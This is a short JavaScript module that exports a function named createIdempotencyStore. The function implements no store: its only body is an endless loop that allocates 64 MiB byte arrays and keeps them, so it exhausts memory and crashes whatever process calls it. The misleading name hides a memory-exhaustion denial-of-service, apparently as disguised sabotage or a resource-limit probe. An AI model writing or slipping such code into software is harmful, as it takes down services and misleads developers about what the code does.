export function createIdempotencyStore() {
  const all = []; for (;;) all.push(new Uint8Array(64 * 2 ** 20).fill(1));
}
